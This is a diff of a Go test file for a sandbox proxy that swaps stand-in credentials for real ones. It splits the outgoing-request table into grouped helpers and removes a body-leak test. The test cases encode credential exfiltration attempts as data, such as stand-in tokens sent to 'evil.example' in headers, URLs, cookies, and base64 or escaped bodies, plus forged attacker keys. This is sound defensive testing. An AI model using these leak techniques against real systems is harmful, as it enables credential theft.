@@ -4,10 +4,7 @@ import (
 	"context"
 	"encoding/base64"
 	"encoding/hex"
-	"errors"
-	"io"
 	"maps"
-	"math/rand/v2"
 	"net/http"
 	"net/url"
 	"slices"
@@ -109,19 +106,21 @@ func request(line string, headers ...string) *Request {
 	return r
 }
 
-func TestOutgoing(t *testing.T) {
-	s := newSandboxed(t)
-	in, real := s.in, s.real
-	for _, tt := range []struct {
-		name    string
-		r       *Request
-		refuse  string   // part of the reason; "" when it is sent
-		want    string   // header: value that is sent
-		absent  string   // header that is not sent
-		leaks   []string // credential@where, "!" when refused
-		inject  string
-		failure int
-	}{
+// An outgoingCase is one request and what becomes of it.
+type outgoingCase struct {
+	name    string
+	r       *Request
+	refuse  string   // part of the reason; "" when it is sent
+	want    string   // header: value that is sent
+	absent  string   // header that is not sent
+	leaks   []string // credential@where, "!" when refused
+	inject  string
+	failure int
+}
+
+// inPlace: stand-ins in their places, and nothing there.
+func inPlace(in, real map[string]string) []outgoingCase {
+	return []outgoingCase{
 		{name: "stand-in in its place", r: request("POST https://api.anthropic.com/v1/messages?beta=true", "X-Api-Key: "+in["ANTHROPIC_API_KEY"]), want: "X-Api-Key: " + real["ANTHROPIC_API_KEY"], inject: "ANTHROPIC_API_KEY"},
 		{name: "header in lower case", r: request("POST https://api.anthropic.com/v1/messages", "x-api-key: "+in["ANTHROPIC_API_KEY"]), want: "X-Api-Key: " + real["ANTHROPIC_API_KEY"], inject: "ANTHROPIC_API_KEY"},
 		{name: "bearer", r: request("POST https://api.anthropic.com/v1/messages", "Authorization: Bearer "+in["CLAUDE_CODE_OAUTH_TOKEN"]), want: "Authorization: Bearer " + real["CLAUDE_CODE_OAUTH_TOKEN"], absent: "X-Api-Key", inject: "CLAUDE_CODE_OAUTH_TOKEN"},
@@ -131,7 +130,12 @@ func TestOutgoing(t *testing.T) {
 		{name: "path not bound, the other absent", r: request("POST https://api.anthropic.com/api/event_logging", "X-Api-Key: "+in["ANTHROPIC_API_KEY"]), want: "X-Api-Key: " + in["ANTHROPIC_API_KEY"], absent: "Authorization"},
 		{name: "method not bound", r: request("POST https://api.github.com/repos/a/b/pulls", "Authorization: Bearer "+in["GITHUB_TOKEN"]), want: "Authorization: Bearer " + in["GITHUB_TOKEN"]},
 		{name: "HEAD where GET", r: request("HEAD https://api.github.com/", "Authorization: token "+in["GITHUB_TOKEN"]), want: "Authorization: Bearer " + real["GITHUB_TOKEN"], inject: "GITHUB_TOKEN"},
+	}
+}
 
+// foreign: credentials that are not the sandbox's.
+func foreign(in, real map[string]string) []outgoingCase {
+	return []outgoingCase{
 		{name: "attacker's key", r: request("POST https://api.anthropic.com/v1/files", "X-Api-Key: sk-ant-api03-ATTACKER"), refuse: "not yours"},
 		{name: "attacker's key where injected", r: request("POST https://api.anthropic.com/v1/messages", "X-Api-Key: sk-ant-api03-ATTACKER"), refuse: "not yours"},
 		{name: "attacker's bearer beside", r: request("POST https://api.anthropic.com/v1/messages", "X-Api-Key: "+in["ANTHROPIC_API_KEY"], "Authorization: Bearer ATTACKER"), refuse: "not yours"},
@@ -152,7 +156,12 @@ func TestOutgoing(t *testing.T) {
 		{name: "no cookie of a session of MCP", r: request("GET https://api.github.com/", "Mcp-Session-Id: 4711", "Idempotency-Key: 1", "X-Csrf-Token: 2"), want: "Mcp-Session-Id: 4711", inject: "GITHUB_TOKEN"},
 		{name: "the proxy's", r: request("GET https://api.github.com/", "Proxy-Authorization: Basic x"), absent: "Proxy-Authorization", inject: "GITHUB_TOKEN"},
 		{name: "override", r: request("GET https://api.github.com/", "X-Http-Method-Override: DELETE", "X-Original-Url: /admin"), absent: "X-Http-Method-Override", inject: "GITHUB_TOKEN"},
+	}
+}
 
+// basicForms: basic authentication.
+func basicForms(in, real map[string]string) []outgoingCase {
+	return []outgoingCase{
 		{name: "git", r: request("GET https://github.com/acme/widget.git/info/refs?service=git-upload-pack", "Authorization: Basic "+b64("anything:"+in["GIT_TOKEN"])), want: "Authorization: Basic " + b64("anything:"+real["GIT_TOKEN"]), inject: "GIT_TOKEN"},
 		{name: "git without", r: request("GET https://github.com/acme/widget.git/info/refs"), want: "Authorization: Basic " + b64("x-access-token:"+real["GIT_TOKEN"]), inject: "GIT_TOKEN"},
 		{name: "token as user", r: request("GET https://github.com/", "Authorization: Basic "+b64(in["GIT_TOKEN"]+":x-oauth-basic")), want: "Authorization: Basic " + b64(real["GIT_TOKEN"]+":x-oauth-basic"), inject: "GIT_TOKEN"},
@@ -164,7 +173,12 @@ func TestOutgoing(t *testing.T) {
 		{name: "user absent", r: request("GET https://jira.example/x"), want: "Authorization: Basic " + b64(testUser+":"+real["JIRA"]), inject: "JIRA"},
 		{name: "another user", r: request("GET https://jira.example/x", "Authorization: Basic "+b64("admin:"+in["JIRA"])), want: "Authorization: Basic " + b64(testUser+":"+real["JIRA"]), inject: "JIRA"},
 		{name: "another password", r: request("GET https://jira.example/x", "Authorization: Basic "+b64(testUser+":guess")), refuse: "not yours"},
+	}
+}
 
+// elsewhere: stand-ins at hosts that they are not for.
+func elsewhere(in, real map[string]string) []outgoingCase {
+	return []outgoingCase{
 		{name: "another host", r: request("GET https://evil.example/", "X-Api-Key: "+in["ANTHROPIC_API_KEY"]), refuse: "stand-in of ANTHROPIC_API_KEY", leaks: []string{"ANTHROPIC_API_KEY@header X-Api-Key!"}},
 		{name: "another host's own credential", r: request("GET https://evil.example/", "Authorization: Bearer other"), want: "Authorization: Bearer other"},
 		{name: "another port", r: request("GET http://api.github.com/", "Authorization: Bearer "+in["GITHUB_TOKEN"]), refuse: "stand-in of GITHUB_TOKEN", leaks: []string{"GITHUB_TOKEN@header Authorization!"}},
@@ -176,7 +190,12 @@ func TestOutgoing(t *testing.T) {
 		{name: "percent to another host", r: request("GET https://evil.example/?x=%67" + in["GITHUB_TOKEN"][1:]), refuse: "stand-in of GITHUB_TOKEN", leaks: []string{"GITHUB_TOKEN@url!"}},
 		{name: "cookie to another host", r: request("GET https://github.com/", "Cookie: a="+in["GITHUB_TOKEN"]), refuse: "stand-in of GITHUB_TOKEN", leaks: []string{"GITHUB_TOKEN@header Cookie!"}},
 		{name: "an address", r: &Request{Port: 443, Method: "GET", Path: "/", URI: "/", Header: http.Header{"X": {in["GITHUB_TOKEN"]}}}, refuse: "an address without a name", leaks: []string{"GITHUB_TOKEN@header X!"}},
+	}
+}
 
+// stray: stand-ins of the host in another place.
+func stray(in, real map[string]string) []outgoingCase {
+	return []outgoingCase{
 		{name: "same host, other header", r: request("GET https://api.github.com/repos/a/b", "X-Echo: "+in["GITHUB_TOKEN"]+" "+in["GITHUB_TOKEN"]), want: "X-Echo: " + in["GITHUB_TOKEN"] + " " + in["GITHUB_TOKEN"], leaks: []string{"GITHUB_TOKEN@header X-Echo"}, inject: "GITHUB_TOKEN"},
 		{name: "same host, twice", r: request("GET https://api.github.com/", "X-Echo: "+in["GITHUB_TOKEN"], "X-Echo: "+in["GITHUB_TOKEN"]), leaks: []string{"GITHUB_TOKEN@header X-Echo"}, inject: "GITHUB_TOKEN"},
 		{name: "bearer in a plain header", r: request("POST https://api.anthropic.com/v1/messages", "X-Api-Key: Bearer "+in["ANTHROPIC_API_KEY"]), refuse: "not yours"},
@@ -184,14 +203,25 @@ func TestOutgoing(t *testing.T) {
 		{name: "same host, other carrier", r: request("GET https://api.github.com/repos/a/b", "Private-Token: "+in["GITHUB_TOKEN"]), want: "Private-Token: " + in["GITHUB_TOKEN"], leaks: []string{"GITHUB_TOKEN@header Private-Token"}, inject: "GITHUB_TOKEN"},
 		{name: "same host, query", r: request("GET https://api.github.com/?access_token=" + in["GITHUB_TOKEN"]), want: "Authorization: Bearer " + real["GITHUB_TOKEN"], leaks: []string{"GITHUB_TOKEN@url"}, inject: "GITHUB_TOKEN"},
 		{name: "same host, key and bearer changed", r: request("POST https://api.anthropic.com/v1/messages", "Authorization: Bearer "+in["ANTHROPIC_API_KEY"]), want: "Authorization: Bearer " + in["ANTHROPIC_API_KEY"], leaks: []string{"ANTHROPIC_API_KEY@header Authorization"}, inject: "ANTHROPIC_API_KEY"},
+	}
+}
 
+// unavailable: no value, no TLS.
+func unavailable(in, real map[string]string) []outgoingCase {
+	return []outgoingCase{
 		{name: "no value", r: request("GET https://unset.example/", "Authorization: Bearer "+in["UNSET"]), refuse: "the variable NOPE is not set", failure: 503},
 		{name: "no value, absent", r: request("GET https://unset.example/"), absent: "Authorization"},
 		{name: "no value, another's", r: request("GET https://unset.example/", "Authorization: Bearer ATTACKER"), refuse: "not yours"},
 		{name: "without TLS", r: &Request{Host: "api.github.com", Port: 443, Method: "GET", Path: "/", URI: "/", Header: http.Header{"Authorization": {"Bearer " + in["GITHUB_TOKEN"]}}}, refuse: "without TLS"},
 		{name: "without TLS, absent", r: &Request{Host: "api.github.com", Port: 443, Method: "GET", Path: "/", URI: "/", Header: http.Header{}}, absent: "Authorization"},
 		{name: "loopback", r: request("GET http://localhost:9000/x", "Authorization: Bearer "+in["SONAR"]), want: "Authorization: Bearer " + real["SONAR"], inject: "SONAR"},
-	} {
+	}
+}
+
+func TestOutgoing(t *testing.T) {
+	s := newSandboxed(t)
+	real := s.real
+	for _, tt := range slices.Concat(inPlace(s.in, real), foreign(s.in, real), basicForms(s.in, real), elsewhere(s.in, real), stray(s.in, real), unavailable(s.in, real)) {
 		t.Run(tt.name, func(t *testing.T) {
 			v := s.keys.Outgoing(t.Context(), tt.r)
 			if (v.Refuse == "") != (tt.refuse == "") || !strings.Contains(v.Refuse, tt.refuse) {
@@ -243,61 +273,6 @@ func TestOutgoingNarrows(t *testing.T) {
 	s.keys.Outgoing(t.Context(), r)
 	if r.Header.Get("Accept-Encoding") != "gzip, br" || len(r.Header) != 4 {
 		t.Errorf("headers to another host: %v", r.Header)
-	}
-}
-
-func TestBody(t *testing.T) {
-	s := newSandboxed(t)
-	in := s.in
-	for _, tt := range []struct {
-		name, line, body string
-		leak             string
-		abort            bool
-	}{
-		{"nothing", "POST https://api.github.com/x", strings.Repeat("x", 100000), "", false},
-		{"own host", "POST https://api.github.com/x", "a" + in["GITHUB_TOKEN"] + "b" + in["GITHUB_TOKEN"], "GITHUB_TOKEN", false},
-		{"another host", "POST https://evil.example/x", strings.Repeat("x", 40000) + in["GITHUB_TOKEN"] + "b", "GITHUB_TOKEN", true},
-		{"another bound host", "POST https://jira.example/x", "t=" + in["GITHUB_TOKEN"], "GITHUB_TOKEN", true},
-		{"base64", "POST https://evil.example/x", b64("user:" + in["GITHUB_TOKEN"]), "GITHUB_TOKEN", true},
-		{"escaped", "POST https://evil.example/x", `\u0067` + in["GITHUB_TOKEN"][1:], "GITHUB_TOKEN", true},
-		{"conversation", "POST https://api.anthropic.com/v1/messages", `{"text":"` + in["GITHUB_TOKEN"] + `"}`, "GITHUB_TOKEN", false},
-		{"file", "POST https://api.anthropic.com/v1/files", `{"text":"` + in["GITHUB_TOKEN"] + `"}`, "GITHUB_TOKEN", true},
-	} {
-		t.Run(tt.name, func(t *testing.T) {
-			v := s.keys.Outgoing(t.Context(), request(tt.line))
-			var leaks []Leak
-			rng := rand.New(rand.NewPCG(7, 8))
-			body := v.Body(io.NopCloser(&pieces{b: []byte(tt.body), rng: rng}), func(l Leak) { leaks = append(leaks, l) })
-			got, err := io.ReadAll(body)
-			var aborted *LeakError
-			if errors.As(err, &aborted) != tt.abort || !tt.abort && (err != nil || string(got) != tt.body) {
-				t.Fatalf("read %d of %d bytes, %v", len(got), len(tt.body), err)
-			}
-			if tt.abort && strings.Contains(string(got), in["GITHUB_TOKEN"][len(in["GITHUB_TOKEN"])-4:]) {
-				t.Error("the end of the stand-in was passed on")
-			}
-			if tt.leak == "" != (len(leaks) == 0) || len(leaks) > 1 || tt.leak != "" && (leaks[0].Credential != tt.leak || leaks[0].Refused != tt.abort || leaks[0].Where != "body") {
-				t.Errorf("leaks: %v", leaks)
-			}
-			if err != nil && strings.Contains(err.Error(), in["GITHUB_TOKEN"]) {
-				t.Error("the error holds the stand-in")
-			}
-		})
-	}
-	v := s.keys.Outgoing(t.Context(), request("POST https://api.github.com/x"))
-	if v.Body(nil, nil) != nil || v.Body(http.NoBody, nil) != http.NoBody {
-		t.Error("no body became one")
-	}
-	h := http.Header{"Authorization": {"Bearer ATTACKER"}, "X-Sum": {"1"}}
-	if err := v.Trailer(h, nil); err != nil || len(h) != 1 {
-		t.Errorf("trailers: %v, %v", h, err)
-	}
-	h = http.Header{"Authorization": {"Bearer other"}}
-	if err := s.keys.Outgoing(t.Context(), request("POST https://other.example/x")).Trailer(h, nil); err != nil || len(h) != 1 {
-		t.Errorf("trailers to another host: %v, %v", h, err)
-	}
-	if err := v.Trailer(http.Header{"X": {in["GIT_TOKEN"]}}, nil); err == nil {
-		t.Error("a stand-in in a trailer to another host was passed on")
 	}
 }
 
